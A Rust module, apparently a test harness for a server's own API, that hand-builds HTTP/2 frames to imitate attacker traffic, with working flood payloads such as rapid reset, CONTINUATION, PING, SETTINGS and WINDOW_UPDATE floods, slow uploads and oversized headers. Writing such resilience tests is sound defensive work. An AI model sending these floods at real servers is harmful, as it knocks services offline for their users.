//! What attackers write in HTTP/2: frames by hand (RFC 9113), headers without compression (RFC 7541).

use std::iter::once;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `SETTINGS_INITIAL_WINDOW_SIZE`.
const WINDOW: u16 = 4;

const GET: u8 = 0x82;
const POST: u8 = 0x83;

/// Streams that a server opens at once for one client.
const STREAMS: u32 = 32;

/// How much of its bodies a client may send on one connection before the server has read some.
const FIRST_WINDOW: usize = 65_535;

/// The beginning of a connection whose client takes nothing of any answer.
fn without_window() -> Vec<u8> {
    let setting = [&WINDOW.to_be_bytes()[..], &[0; 4]].concat();
    [PREFACE, &frame(SETTINGS, 0, 0, &setting)].concat()
}

/// Asks for one thing on every stream and takes none of it.
pub(super) fn unread(path: &str, bearer: Option<&str>) -> Vec<u8> {
    let head = head(GET, path, bearer, 0);
    on_all_streams(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &head))
}

/// Begins an upload on every stream, as far as the window goes.
pub(super) fn unfinished_uploads() -> Vec<u8> {
    let head = head(POST, "/api/v1/auth/login", None, 0);
    let part = vec![b' '; FIRST_WINDOW / STREAMS as usize];
    on_all_streams(|stream| {
        [frame(HEADERS, END_HEADERS, stream, &head), frame(DATA, 0, stream, &part)].concat()
    })
}

/// As many frames of one byte as the window goes.
pub(super) fn tiny_uploads() -> Vec<u8> {
    let head = head(POST, "/api/v1/auth/login", None, 0);
    let part = 2 * 1024;
    on_all_streams(|stream| {
        let bytes = frame(DATA, 0, stream, b" ").repeat(part);
        [frame(HEADERS, END_HEADERS, stream, &head), bytes].concat()
    })
}

/// The largest heads, on every stream, and bodies that do not come.
pub(super) fn large_heads() -> Vec<u8> {
    let head = head(POST, "/api/v1/auth/login", None, 100);
    on_all_streams(|stream| frame(HEADERS, END_HEADERS, stream, &head))
}

/// A frame of the largest size without its last byte.
pub(super) fn unfinished_frame() -> Vec<u8> {
    let mut bytes = [without_window(), frame(DATA, 0, 1, &[b' '; 16_384])].concat();
    bytes.pop();
    bytes
}

/// Frames that are sent once, and those that are sent again and again behind them.
pub(super) struct Flood {
    pub(super) name: &'static str,
    pub(super) first: fn() -> Vec<u8>,
    pub(super) again: fn() -> Vec<u8>,
}

/// How many frames are written at once.
const AT_ONCE: usize = 256;

/// All floods.
pub(super) const FLOODS: [Flood; 7] = [
    Flood { name: "HTTP/2, rapid reset", first: rapid_resets, again: || frame(PING, 0, 0, &[0; 8]) },
    Flood {
        name: "HTTP/2, a head that goes on and on",
        first: begun_head,
        again: || frame(CONTINUATION, 0, 1, &literal("x", 100)).repeat(AT_ONCE),
    },
    Flood {
        name: "HTTP/2, a head that goes on in empty frames",
        first: begun_head,
        again: || frame(CONTINUATION, 0, 1, b"").repeat(AT_ONCE),
    },
    Flood { name: "HTTP/2, pings", first: with_window, again: || frame(PING, 0, 0, &[7; 8]).repeat(AT_ONCE) },
    Flood {
        name: "HTTP/2, settings",
        first: with_window,
        again: || frame(SETTINGS, 0, 0, b"").repeat(AT_ONCE),
    },
    Flood {
        name: "HTTP/2, empty data",
        first: begun_upload,
        again: || frame(DATA, 0, 1, b"").repeat(AT_ONCE),
    },
    Flood {
        name: "HTTP/2, windows a byte wider",
        first: with_window,
        again: || frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(AT_ONCE),
    },
];

/// The beginning of a connection as honest clients have it.
fn with_window() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, b"")].concat()
}

/// Streams that are opened and reset at once, far more than an honest client opens.
fn rapid_resets() -> Vec<u8> {
    let head = head(GET, "/openapi.json", None, 0);
    let streams = (0..20_000_u32).map(|stream| {
        let stream = 2 * stream + 1;
        let cancel = [0, 0, 0, 8];
        [frame(HEADERS, END_HEADERS | END_STREAM, stream, &head), frame(RST_STREAM, 0, stream, &cancel)]
            .concat()
    });
    once(with_window()).chain(streams).flatten().collect()
}

/// A head without its end.
fn begun_head() -> Vec<u8> {
    [with_window(), frame(HEADERS, END_STREAM, 1, &head(GET, "/healthz", None, 0))].concat()
}

/// An upload that begins.
fn begun_upload() -> Vec<u8> {
    [with_window(), frame(HEADERS, END_HEADERS, 1, &head(POST, "/api/v1/auth/login", None, 0))].concat()
}

/// A header of its own name that means nothing.
fn literal(name: &str, length: usize) -> Vec<u8> {
    [vec![0], text(name), text(&"x".repeat(length))].concat()
}

fn on_all_streams(frames: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let streams = (0..STREAMS).map(|stream| frames(2 * stream + 1));
    once(without_window()).chain(streams).flatten().collect()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A request's head, with so many headers of 100 bytes that mean nothing.
fn head(method: u8, path: &str, bearer: Option<&str>, padding: usize) -> Vec<u8> {
    let http = 0x86;
    let mut head = vec![method, http];
    head.extend(indexed(4, path));
    head.extend(indexed(1, "a"));
    head.extend(indexed(31, "application/json"));
    if let Some(token) = bearer {
        head.extend(indexed(23, &format!("Bearer {token}")));
    }
    for _ in 0..padding {
        head.push(0);
        head.extend(text("x"));
        head.extend(text(&"x".repeat(100)));
    }
    head
}

/// A literal value for a name of the static table, not to be remembered.
fn indexed(name: usize, value: &str) -> Vec<u8> {
    [integer(name, 4), text(value)].concat()
}

fn text(text: &str) -> Vec<u8> {
    [integer(text.len(), 7), text.as_bytes().to_vec()].concat()
}

/// An integer that begins in the last `bits` of a byte.
fn integer(value: usize, bits: u32) -> Vec<u8> {
    let most = (1 << bits) - 1;
    let byte = |value: usize| u8::try_from(value).unwrap_or(u8::MAX);
    if value < most {
        return vec![byte(value)];
    }
    let mut bytes = vec![byte(most)];
    let mut rest = value - most;
    while rest >= 128 {
        bytes.push(byte(rest % 128 + 128));
        rest /= 128;
    }
    bytes.push(byte(rest));
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn integers_are_written_as_rfc_7541_shows_them() {
        assert_eq!(integer(10, 5), [10]);
        assert_eq!(integer(1337, 5), [31, 154, 10]);
        assert_eq!(integer(42, 7), [42]);
    }

    #[test]
    fn a_frame_has_its_length_before_it() {
        assert_eq!(frame(DATA, END_STREAM, 5, b"ab"), [0, 0, 2, 0, 1, 0, 0, 0, 5, b'a', b'b']);
    }
}
